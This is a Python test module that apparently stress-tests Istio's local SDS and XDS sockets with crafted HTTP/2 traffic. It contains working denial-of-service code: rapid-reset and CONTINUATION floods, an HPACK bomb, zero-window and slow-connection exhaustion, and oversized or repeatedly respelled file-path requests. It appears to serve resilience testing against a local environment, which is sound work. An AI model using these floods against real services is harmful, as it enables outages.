"""Attacks on the SDS and XDS sockets: HTTP/2 as no client speaks it."""
import itertools
import os
import signal
import time

from . import h2
from .h2 import ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RST, SETTINGS, Conn, frame, request
from .registry import attack
from .world import SDS, XDS

PATHS = {SDS: h2.SDS_PATH, XDS: h2.ADS_PATH}
EACH = {"SDS": SDS, "XDS": XDS}


def again(world, socket, size, play):
    """Plays on one connection after the other until the time is up; a closed connection is an answer."""
    end = time.monotonic() + size.seconds
    while time.monotonic() < end:
        try:
            with Conn(world.dir / socket, timeout=1) as conn:
                conn.io.settimeout(0.5)
                play(conn, PATHS[socket], end)
        except OSError:
            time.sleep(0.01)


TURNS = itertools.cycle(EACH)


def flood(name, why):
    def note(play):
        # Both sockets have one front door.
        turn = next(TURNS)
        for label, socket in EACH.items():
            @attack(f"{label} {name}", why, short=label == turn)
            def it(world, size, socket=socket):
                again(world, socket, size, play)
        return play
    return note


def ids():
    stream = 1
    while stream < 2**31:
        yield stream
        stream += 2


@flood("rapid reset", "streams that are opened and reset at once")
def rapid_reset(conn, path, end):
    head = request(path)
    stream = ids()
    while time.monotonic() < end:
        batch = []
        for _ in range(100):
            s = next(stream)
            batch += [frame(HEADERS, END_HEADERS, s, head), frame(RST, 0, s, b"\0\0\0\x08")]
        conn.send(*batch)


@flood("endless header block", "CONTINUATION without end")
def continuation(conn, path, end):
    conn.send(frame(HEADERS, 0, 1, request(path)))
    while time.monotonic() < end:
        conn.send(frame(CONTINUATION, 0, 1, h2.field("x", b"y" * 16000)))


@flood("header block byte by byte", "CONTINUATION frames of one byte")
def bytewise(conn, path, end):
    block = request(path) + h2.field("x", b"y" * 100_000)
    conn.send(frame(HEADERS, 0, 1, block[:1]))
    for at in range(1, len(block)):
        conn.send(frame(CONTINUATION, 0, 1, block[at:at + 1]))
        if time.monotonic() > end:
            return


@flood("HPACK bomb", "small frames that unpack to much")
def bomb(conn, path, end):
    stream = ids()
    entry = b"\x40" + h2.number(1, 7) + b"x" + h2.number(3900, 7) + b"y" * 3900
    conn.send(frame(HEADERS, END_HEADERS, next(stream), request(path) + entry))
    while time.monotonic() < end:
        # The newest entry of the table, 4,000 times: 16 MB out of 4 kB.
        conn.send(frame(HEADERS, END_HEADERS | END_STREAM, next(stream), request(path) + b"\xbe" * 4000))


@flood("Huffman texts", "a header block of nothing but texts of one byte in the Huffman code")
def huffman(conn, path, end):
    # Name and value are an "a": five bits, filled up with ones.
    block = request(path) + b"\0\x81\x1f\x81\x1f" * 60_000
    conn.send(frame(HEADERS, 0, 1, block[:16_000]))
    for at in range(16_000, len(block), 16_000):
        conn.send(frame(CONTINUATION, END_HEADERS if at + 16_000 >= len(block) else 0, 1, block[at:at + 16_000]))
    # What comes back, or the end.
    while time.monotonic() < end:
        conn.read()


@flood("SETTINGS", "settings to be acknowledged, and nobody reads")
def settings(conn, path, end):
    while time.monotonic() < end:
        conn.send(*[frame(SETTINGS, 0, 0, b"\0\x03\0\0\0\x64")] * 200)


@flood("PING", "pings to be answered, and nobody reads")
def ping(conn, path, end):
    while time.monotonic() < end:
        conn.send(*[frame(PING, 0, 0, b"12345678")] * 200)


@flood("empty DATA", "frames without content")
def empty(conn, path, end):
    conn.send(frame(HEADERS, END_HEADERS, 1, request(path)))
    while time.monotonic() < end:
        conn.send(*[frame(DATA, 0, 1)] * 500)


@flood("garbage", "bytes that are no frames")
def garbage(conn, path, end):
    conn.send(h2.noise(20_000))
    conn.read()


@flood("closed window", "a client that lets nothing be sent to it")
def window(conn, path, end):
    conn.send(frame(SETTINGS, 0, 0, b"\0\x04\0\0\0\0"), frame(SETTINGS, ACK, 0))
    stream = ids()
    for _ in range(90):
        s = next(stream)
        conn.send(frame(HEADERS, END_HEADERS, s, request(path)), frame(DATA, 0, s, h2.secrets()))
    while time.monotonic() < end:
        conn.read()


@flood("large names", "a resource name of 900 kB")
def large(conn, path, end):
    body = h2.secrets(b"n" * 900_000)
    conn.send(frame(HEADERS, END_HEADERS, 1, request(path)))
    for at in range(0, len(body), 16384):
        conn.send(frame(DATA, 0, 1, body[at:at + 16384]))
    for _ in range(50):
        conn.read()


@flood("unfinished messages", "messages of 4 MB by the hundred, of which the last byte never comes")
def unfinished(conn, path, end):
    # Windows are opened as bytes are read, which is looked at between pieces.
    conn.io.settimeout(0.2)
    piece, stream, room = b"a" * 16_000, ids(), {0: 65_000}
    while time.monotonic() < end:
        s = next(stream)
        conn.send(frame(HEADERS, END_HEADERS, s, request(path)), frame(DATA, 0, s, b"\0\0\x3f\xff\xff"))
        sent, room[s] = 5, 65_535
        while sent < 4_000_000 and time.monotonic() < end:
            if min(room[s], room[0]) < len(piece):
                kind, _, of, payload = conn.read()
                if kind == h2.WINDOW and of in room:
                    room[of] += int.from_bytes(payload, "big")
                elif kind == h2.GOAWAY:
                    return
                elif kind == RST or (kind == HEADERS and of == s):
                    break
                continue
            conn.send(frame(DATA, 0, s, piece))
            sent, room[s], room[0] = sent + len(piece), room[s] - len(piece), room[0] - len(piece)


def connected(path):
    io = h2.socket.socket(h2.socket.AF_UNIX)
    io.settimeout(0.2)
    try:
        io.connect(str(path))
    except OSError:
        io.close()
        raise
    return io


def hold(size, connect):
    """Holds as many connections as it gets, up to the size's number, until the time is up."""
    held, end = [], time.monotonic() + size.seconds
    while time.monotonic() < end:
        try:
            if len(held) < size.sockets:
                held.append(connect())
            else:
                time.sleep(0.05)
        except OSError:
            time.sleep(0.02)
    for conn in held:
        conn.close()


for label, socket in EACH.items():
    @attack(f"{label} silent connections", "connections that say nothing")
    def silent(world, size, socket=socket):
        hold(size, lambda: connected(world.dir / socket))

    @attack(f"{label} opened connections", "connections that open HTTP/2 and say nothing", short=label == "XDS")
    def opened(world, size, socket=socket):
        hold(size, lambda: Conn(world.dir / socket, timeout=0.2))

    @attack(f"{label} streams", "as many streams on one connection as it takes")
    def streams(world, size, socket=socket):
        left, end = size.streams, time.monotonic() + size.seconds
        head, ask = request(PATHS[socket]), h2.secrets()
        # Who is thrown out comes again.
        while time.monotonic() < end:
            try:
                with Conn(world.dir / socket, timeout=2) as conn:
                    stream = ids()
                    while left and time.monotonic() < end:
                        s = next(stream)
                        conn.send(frame(HEADERS, END_HEADERS, s, head), frame(DATA, 0, s, ask))
                        left -= 1
                    time.sleep(max(0, end - time.monotonic()))
            except OSError:
                time.sleep(0.01)


def many(world, size, socket, amount, head, more):
    """As many connections; each sends `head`, and what `more` gives as long as it is taken. Nothing is read."""
    held, end = [], time.monotonic() + size.seconds
    while time.monotonic() < end:
        if len(held) < amount:
            try:
                held.append([Conn(world.dir / socket, timeout=0.5), ids(), head])
                held[-1][0].io.setblocking(False)
            except OSError:
                time.sleep(0.01)
        for one in list(held):
            try:
                rest = one[2] or more(one[1])
                one[2] = rest
                one[2] = rest[one[0].io.send(rest):] if rest else b""
            except BlockingIOError:
                pass
            except OSError:
                one[0].close()
                held.remove(one)
    for conn, _, _ in held:
        conn.close()


for label, socket in EACH.items():
    @attack(f"{label} refused and unread", "calls of what there is not, by the thousand, whose answers nobody reads")
    def refused(world, size, socket=socket):
        many(world, size, socket, 50, b"",
             lambda s: b"".join(frame(HEADERS, END_HEADERS | END_STREAM, next(s), b"\x82\x86\x84") for _ in range(500)))

    @attack(f"{label} header blocks without end", "nearly as long as one may be, on hundreds of connections", short=label == "XDS")
    def endless(world, size, socket=socket):
        block = request(PATHS[socket]) + b"".join(h2.field("x", b"y" * 16_000) for _ in range(22))
        pieces = [frame(CONTINUATION, 0, 1, block[at:at + 16_000]) for at in range(100, len(block), 16_000)]
        many(world, size, socket, 230, frame(HEADERS, 0, 1, block[:100]) + b"".join(pieces), lambda _: b"")


@attack("SDS calls with long paths", "calls for one answer whose path is as long as it may be and whose request never comes", short=False)
def queries(world, size):
    block = request(h2.SDS_PATH.replace("Stream", "Fetch") + "?" + "q" * 60_000)

    def call(stream):
        s = next(stream)
        pieces = [block[at:at + 16_000] for at in range(0, len(block), 16_000)]
        return frame(HEADERS, 0, s, pieces[0]) + b"".join(
            frame(CONTINUATION, END_HEADERS if piece is pieces[-1] else 0, s, piece) for piece in pieces[1:])
    many(world, size, SDS, 1, b"", call)


@attack("XDS streams replaced", "streams opened and left by the hundred while istiod stands still")
def replaced(world, size):
    end, left = time.monotonic() + size.seconds, size.streams // 7
    os.kill(world.istiod.pid, signal.SIGSTOP)
    try:
        while left and time.monotonic() < end:
            try:
                with Conn(world.dir / XDS, timeout=1) as conn:
                    conn.send(frame(HEADERS, END_HEADERS, 1, request(PATHS[XDS])), frame(DATA, 0, 1, h2.secrets()))
                    conn.read()
                    left -= 1
            except OSError:
                time.sleep(0.01)
    finally:
        os.kill(world.istiod.pid, signal.SIGCONT)


@attack("XDS bytes unread", "requests a byte a frame, on connection after connection, while istiod stands still")
def unread(world, size):
    head = h2.message((1, h2.NODE), (4, b"type.googleapis.com/envoy.config.cluster.v3.Cluster"))
    # The first request is on its way to istiod; of what follows the window is full.
    block, kept, end = frame(DATA, 0, 1, b"\0") * 3000, [], time.monotonic() + size.seconds
    os.kill(world.istiod.pid, signal.SIGSTOP)
    try:
        while time.monotonic() < end and len(kept) < 200:
            try:
                conn = Conn(world.dir / XDS, timeout=0.5)
                kept.append(conn)
                conn.send(frame(HEADERS, END_HEADERS, 1, request(PATHS[XDS])), frame(DATA, 0, 1, head))
                for _ in range(21):
                    conn.send(block)
            except OSError:
                time.sleep(0.01)
        time.sleep(max(0, end - time.monotonic()))
    finally:
        os.kill(world.istiod.pid, signal.SIGCONT)
        for conn in kept:
            conn.close()


def name_files(label, why, length, each, short):
    """Files that are not there, by new names of this length, `each` of them in a request."""
    @attack(f"SDS {label}", why, short=short)
    def names(world, size):
        end, n = time.monotonic() + size.seconds, itertools.count()
        while time.monotonic() < end:
            try:
                with Conn(world.dir / SDS, timeout=1) as conn:
                    paths = [(3, b"file-root:/nowhere/%08d" % next(n) + b"n" * length) for _ in range(each)]
                    body = h2.message((2, h2.NODE), *paths, (4, h2.SECRET.encode()))
                    conn.send(frame(HEADERS, END_HEADERS, 1, request(PATHS[SDS])))
                    room, at = dict.fromkeys((0, 1), 65_000), 0
                    while at < len(body):
                        if piece := min(16_000, len(body) - at, *room.values()):
                            conn.send(frame(DATA, 0, 1, body[at:at + piece]))
                            room, at = {of: left - piece for of, left in room.items()}, at + piece
                            continue
                        kind, _, of, payload = conn.read()
                        if kind == h2.WINDOW and of in room:
                            room[of] += int.from_bytes(payload, "big")
                        elif kind in (RST, h2.GOAWAY):
                            break
                    conn.io.settimeout(0.1)
                    while conn.read()[0] not in (RST, h2.GOAWAY):
                        pass
            except OSError:
                pass


name_files("paths that no file has", "files by paths of 3.9 MB", 3_900_000, 1, True)
name_files("long paths", "thousands of files by the longest paths there are", 3900, 900, False)


@attack("SDS one file by many names", "a good file that changes, by a thousand spellings of its path", short=False)
def spelled(world, size):
    good, file, fresh = (world.dir / "var/run/secrets/istio/root-cert.pem").read_bytes(), world.dir / "spelled.pem", world.dir / ".spelled"
    file.write_bytes(good)
    end, kept = time.monotonic() + size.seconds, []
    try:
        for n in itertools.count():
            if time.monotonic() > end:
                break
            if n < 100:
                dots = [b"file-root:" + bytes(world.dir) + b"/." * (10 * n + k + 1) + b"/spelled.pem" for k in range(10)]
                kept.append(Conn(world.dir / SDS, timeout=1))
                body = h2.message((2, h2.NODE), *[(3, name) for name in dots], (4, h2.SECRET.encode()))
                kept[-1].send(frame(HEADERS, END_HEADERS, 1, request(PATHS[SDS])))
                for at in range(0, len(body), 16_000):
                    kept[-1].send(frame(DATA, 0, 1, body[at:at + 16_000]))
            fresh.write_bytes(good * (1 + n % 2))
            fresh.rename(file)
            time.sleep(0.05)
    except OSError:
        pass
    finally:
        for conn in kept:
            conn.close()


@attack("SDS large files by many names", "a file of 12 MB that is no certificate, by 300 spellings of its path")
def large_files(world, size):
    (world.dir / "large.pem").write_bytes(b"-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n" * 200_000)
    os.chmod(world.dir / "large.pem", 0o644)
    end, kept = time.monotonic() + size.seconds, []
    for n in itertools.count():
        if time.monotonic() > end:
            break
        name = b"file-root:" + bytes(world.dir) + b"/." * (n % 300) + b"/large.pem"
        try:
            kept.append(Conn(world.dir / SDS, timeout=1))
            kept[-1].send(frame(HEADERS, END_HEADERS, 1, request(PATHS[SDS])), frame(DATA, 0, 1, h2.secrets(name)))
        except OSError:
            pass
        if len(kept) > 150:
            kept.pop(0).close()
        time.sleep(0.01)
    for conn in kept:
        conn.close()
    (world.dir / "large.pem").unlink()


@attack("SDS large roots unread", "thousands of streams that ask for a file of 300 kB and take no answer", short=False)
def unread_roots(world, size):
    root, file = (world.dir / "var/run/secrets/istio/root-cert.pem").read_bytes(), world.dir / "roots.pem"
    file.write_bytes(root * (300_000 // len(root)))
    os.chmod(file, 0o644)
    ask, end, kept = h2.secrets(b"file-root:" + bytes(file)), time.monotonic() + size.seconds, []
    while time.monotonic() < end:
        try:
            if len(kept) < 40:
                # No byte may be sent.
                kept.append(Conn(world.dir / SDS, settings=b"\0\x04\0\0\0\0", timeout=1))
                for s in itertools.islice(ids(), 90):
                    kept[-1].send(frame(HEADERS, END_HEADERS, s, request(PATHS[SDS])), frame(DATA, 0, s, ask))
        except OSError:
            pass
        time.sleep(0.05)
    for conn in kept:
        conn.close()
    file.unlink()
